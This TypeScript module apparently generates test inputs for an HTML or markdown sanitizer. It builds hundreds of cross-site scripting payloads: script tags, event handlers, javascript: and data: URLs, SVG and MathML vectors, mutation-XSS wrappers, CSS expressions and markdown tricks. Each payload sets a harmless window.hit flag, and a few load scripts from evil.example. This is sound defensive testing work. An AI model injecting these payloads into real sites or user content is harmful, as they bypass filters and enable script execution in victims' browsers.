/**
 * What somebody writes who wants a stranger's browser to run it: well-known pieces, and combinations of tags, events, schemes, ways to write them
 * and wrappings that change how the rest is read. Each sets `window.hit` where it runs.
 */

export interface HostileText {
  readonly kind: "script" | "event" | "link" | "svg" | "mathml" | "mutation" | "css" | "markdown";
  readonly text: string;
}

const run = "window.hit=1";
const data = `data:text/html,<script>top.${run}</script>`;

const scripts = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script/x>${run}</script>`, `<script\n>${run}</script\n>`, `<script>${run}//`, `<<script>${run}//<</script>`,
  `<script src="data:text/javascript,${run}"></script>`, `<script src=//evil.example/x.js></script>`, `<script type=module>${run}</script>`, `<script>//\u2028${run}</script>`, `\u0000<script\u0000>${run}</script>`,
  `"><script>${run}</script>`, `'><script>${run}</script>`, `</textarea><script>${run}</script>`, `</title><script>${run}</script>`, `</script><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`, `<!--><script>${run}</script>-->`, `<!--- --!><script>${run}</script>-->`, `<?xml version="1.0"?><script>${run}</script>`, `<![CDATA[<script>${run}</script>]]>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`, `<object data="${data}"></object>`, `<embed src="${data}">`, `<base href="javascript:/a/-(${run})//"><a href="/">x</a>`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<meta http-equiv=refresh content="0;url=${data}">`,
  `<link rel=import href="${data}">`, `<link rel=stylesheet href="javascript:${run}">`, `<isindex type=image src=x onerror=${run}>`, `<xml onreadystatechange=${run}>`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`,
];

const mutations: readonly ((inner: string) => string)[] = [
  (x) => `<noscript><p title="</noscript>${x}">`, (x) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${x}">`, (x) => `<svg></p><style><a id="</style>${x}">`, (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
  (x) => `<template>${x}</template>`, (x) => `<select><style></select>${x}</style>`, (x) => `<title><a title="</title>${x}">`, (x) => `<xmp><p title="</xmp>${x}">`, (x) => `<textarea><p title="</textarea>${x}">`, (x) => `<noembed><p title="</noembed>${x}">`,
  (x) => `<svg><desc>${x}</desc></svg>`, (x) => `<svg><foreignObject>${x}</foreignObject></svg>`, (x) => `<math><annotation-xml encoding="text/html">${x}</annotation-xml></math>`, (x) => `<math><mi><!--</mi>${x}-->`, (x) => `<table><td>${x}`, (x) => `<a title="&lt;/a&gt;${x}">`,
  (x) => `<p id="<!--${x}">-->`, (x) => `<![CDATA[><!--]]>${x}<!-->`, (x) => `<option><style></option></select>${x}`, (x) => `<div>`.repeat(70) + x, (x) => `<a><b><a>${x}`, (x) => `<!-- --!>${x}-->`, (x) => `<style><!--</style>${x}`, (x) => `<plaintext>${x}`, (x) => `<svg><title><style></title>${x}`,
];

const elements = ["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "a tabindex=1", "marquee", "object data=x", "iframe src=x", "select autofocus", "textarea autofocus", "button autofocus", "form", "div contenteditable", "style", "link rel=stylesheet href=x", "video><source src=x", "x-y"];
const handlers = ["onerror", "onload", "onfocus", "onclick", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart", "onstart", "onbeforetoggle"];
const attributes: readonly ((name: string) => string)[] = [
  (name) => ` ${name}=${run}`, (name) => ` ${name}="${run}"`, (name) => ` ${name}='${run}'`, (name) => `/${name}=${run}`, (name) => `\n${name.toUpperCase()}\n=\n"${run}"`, (name) => ` x="a"${name}=${run}`, (name) => ` ${name}=&#119;indow.hit=1`, (name) => ` x='"' ${name}=${run} y='`, (name) => ` ${name}\u0000=${run}`, (name) => ` x=\`<\`${name}=${run}`,
];

const schemes = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, ` \u0001javascript:${run}`, `&#106;avascript:${run}`, `&#x6A&#x61;vascript:${run}`, `javascript&colon;${run}`, `javascript&Tab;:${run}`, `jav&#x0A;ascript:${run}`, `vbscript:${run}`, data, `data:text/html;base64,PHNjcmlwdD50b3AuaGl0PTE8L3NjcmlwdD4=`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.${run}'/>`, `feed:javascript:${run}`, `view-source:javascript:${run}`, `//javascript:${run}`, `javascript://%0a${run}`, `\\javascript:${run}`, `blob:javascript:${run}`,
];
const places: readonly ((target: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`, (to) => `<a href='${to}' target=_self>x</a>`, (to) => `<a href=${to.replace(/[\s<>]/g, "")}>x</a>`, (to) => `<form action="${to}"><button>x</button></form>`, (to) => `<button form=f formaction="${to}">x</button><form id=f></form>`, (to) => `<iframe src="${to}"></iframe>`, (to) => `<area href="${to}" shape=default>`, (to) => `<img src="${to}">`, (to) => `<img srcset="${to} 1x">`, (to) => `<input type=image src="${to}">`, (to) => `<table background="${to}">`, (to) => `<video poster="${to}">`,
];
const svgs: readonly ((target: string) => string)[] = [
  (to) => `<svg><a xlink:href="${to}"><text y=20>x</text></a></svg>`, (to) => `<svg><a><animate attributeName=href values="${to}"></animate><text y=20>x</text></a></svg>`, (to) => `<svg><use href="${to}"></use></svg>`, (to) => `<svg><set attributeName=href to="${to}"></set></svg>`, (to) => `<svg><image href="${to}"></image></svg>`,
];
const svgEvents = [`<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><script href="data:text/javascript,${run}"></script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributename=x>`, `<svg><style>@keyframes x{}</style><g style="animation-name:x" onanimationstart="${run}"></g></svg>`, `<svg><handler type="text/javascript">${run}</handler></svg>`, `<svg xmlns="http://www.w3.org/2000/svg"><g onload="${run}"></g></svg>`];
const maths: readonly ((target: string) => string)[] = [(to) => `<math href="${to}">x</math>`, (to) => `<math><mtext href="${to}">x</mtext></math>`, (to) => `<math xlink:href="${to}">x</math>`, (to) => `<math><maction actiontype="statusline#" xlink:href="${to}">x</maction></math>`];
const styles = [
  `<div style="background:url(javascript:${run})">x</div>`, `<div style="width:expression(${run})">x</div>`, `<div style="behavior:url(x.htc)">x</div>`, `<div style="-moz-binding:url(//evil.example/x.xml#a)">x</div>`, `<style>@import 'javascript:${run}';</style>`, `<style>body{background:url("javascript:${run}")}</style>`, `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${run}">x</b>`, `<div style="position:fixed;inset:0"><a href="javascript:${run}">x</a></div>`, `<style></style><script>${run}</script></style>`, `<style>a{color:red}</style/><img src=x onerror=${run}>`, `<div style="x:\\65xpression(${run})">x</div>`, `<div style='x:"</div><img src=x onerror=${run}>"'>`,
];
const markdowns: readonly ((target: string) => string)[] = [
  (to) => `[x](${to})`, (to) => `[x](<${to}>)`, (to) => `![x](${to})`, (to) => `<${to}>`, (to) => `[x][1]\n\n[1]: ${to}`, (to) => `[x](${to} "t")`, (to) => `[![x](x)](${to})`, (to) => `| a |\n|---|\n| [x](${to}) |`, (to) => `# [x](${to})`, (to) => `> - [x](${to})`,
];
const markdownTricks = [
  `![x](x"onerror="${run})`, `![x"onerror="${run}](x)`, `[x](x "a\\" onmouseover=${run} b=\\"")`, `[<img src=x onerror=${run}>](x)`, "```<img src=x onerror=" + run + ">\n```", "`<img src=x onerror=" + run + ">`", `<div\n\nonclick=${run}>x`, `<http://a" onclick=${run}>`, `\\<img src=x onerror=${run}>`, `&lt;img src=x onerror=${run}&gt;`, `<a href="x"\n>[y](x)</a><img src=x onerror=${run}>`, `http://a.b/"onmouseover="${run}`, `~~<img src=x onerror=${run}>~~`, `- [x] <img src=x onerror=${run}>`,
];

const made = (kind: HostileText["kind"], texts: readonly string[]): HostileText[] => texts.map((text) => ({ kind, text }));
const each = <A, B>(left: readonly A[], right: readonly B[], join: (a: A, b: B) => string): string[] => left.flatMap((a) => right.map((b) => join(a, b)));

/** Everything there is, each once, always in the same order. */
export function allHostileTexts(): readonly HostileText[] {
  const events = elements.flatMap((element) => each(handlers, attributes, (handler, attribute) => `<${element}${attribute(handler)}>`));
  const inner = [`<img src=x onerror=${run}>`, `<script>${run}</script>`, `<svg onload=${run}>`, `<a href="javascript:${run}">x</a>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`];
  const wrapped = [...each(mutations, inner, (wrap, x) => wrap(x)), ...each(mutations, mutations, (outer, wrap) => outer(wrap(inner[0] ?? ""))), ...each(mutations, events.filter((_, at) => at % 97 === 0), (wrap, x) => wrap(x))];
  const all = [
    ...made("script", scripts), ...made("event", events), ...made("link", each(places, schemes, (place, to) => place(to))), ...made("svg", [...svgEvents, ...each(svgs, schemes, (place, to) => place(to))]),
    ...made("mathml", each(maths, schemes, (place, to) => place(to))), ...made("mutation", wrapped), ...made("css", styles), ...made("markdown", [...markdownTricks, ...each(markdowns, schemes, (place, to) => place(to))]),
  ];
  const seen = new Set<string>();
  return all.filter(({ text }) => !seen.has(text) && seen.add(text) !== undefined);
}

/** The same for the same size: some of each kind, all classics among them. */
export function hostileTexts(size: number): readonly HostileText[] {
  const all = allHostileTexts();
  if (size >= all.length) return all;
  const kinds = new Map<string, HostileText[]>();
  for (const one of all) kinds.set(one.kind, [...(kinds.get(one.kind) ?? []), one]);
  const share = Math.ceil(size / kinds.size);
  const small = [...kinds.values()].filter((list) => list.length <= share);
  const large = [...kinds.values()].filter((list) => list.length > share);
  const left = size - small.reduce((sum, list) => sum + list.length, 0);
  const each = Math.ceil(left / large.length);
  return [...small.flat(), ...large.flatMap((list) => list.filter((_, at) => Math.floor(((at + 1) * each) / list.length) > Math.floor((at * each) / list.length)))];
}
